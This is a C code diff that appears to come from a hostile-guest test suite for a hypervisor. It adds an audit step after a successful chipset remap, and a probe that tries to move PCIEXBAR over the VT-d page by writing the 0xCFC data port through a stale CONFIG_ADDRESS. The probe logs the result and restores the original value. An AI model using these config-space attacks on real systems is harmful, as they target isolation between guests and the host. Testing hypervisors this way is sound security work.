@@ -274,8 +274,12 @@ static void cfg_attack(struct hostile *h, const char *what, uint32_t addr, uint6
         else
             cfg_write(addr, value);
         seen = cfg_read(addr);
-        if (seen != before)
+        if (seen != before) {
+            /* It took: let the hypervisor look at itself while the chipset is moved (with
+             * ECAM or RCBA over its registers it reads them wrong), then put it back. */
+            audit(h, C, 0);
             cfg_write(addr, before);
+        }
     }
     irq_restore(irq);
     uint32_t after = cfg_read(addr);
@@ -347,6 +351,22 @@ void class_pci_config(struct hostile *h)
                false, NULL);
     cfg_attack(h, "LPC RCBA (00:1f.0 0xf0) over the VT-d page", cf8(0, 0x1f, 0, 0xF0), ecam(0, 0x1f, 0, 0xF0), rcba_over,
                true, NULL);
+    /* CONFIG_ADDRESS is one register for every CPU: after a read of PCIEXBAR (which the
+     * hypervisor may do for us by selecting it in the real register), clear the enable bit
+     * in ours and write the data port, hoping it goes to whatever is still selected. */
+    {
+        uint32_t before = cfg_read(cf8(0, 0, 0, 0x60));
+        houtl(0xCF8, cf8(0, 0, 0, 0x60) & ~0x80000000u);
+        houtl(0xCFC, moved);
+        uint32_t after = cfg_read(cf8(0, 0, 0, 0x60));
+        if (after != before) {
+            audit(h, C, 0); /* while ECAM is over the VT-d page */
+            cfg_write(cf8(0, 0, 0, 0x60), before);
+        }
+        attempt(h, C, after != before,
+                "PCIEXBAR through a stale CONFIG_ADDRESS (read it, clear the enable bit, write 0xcfc): 0x%x -> 0x%x%s",
+                before, after, after != before ? ", put back" : "");
+    }
     hl(h, C, "after: PCIEXBAR 0x%x, SMRAM/ESMRAMC dword 0x%x, PAM 0x%x 0x%x, PMBASE 0x%x, RCBA 0x%x",
        cfg_read(cf8(0, 0, 0, 0x60)), cfg_read(cf8(0, 0, 0, 0x9C)), cfg_read(cf8(0, 0, 0, 0x90)),
        cfg_read(cf8(0, 0, 0, 0x94)), cfg_read(cf8(0, 0x1f, 0, 0x40)), cfg_read(cf8(0, 0x1f, 0, 0xF0)));
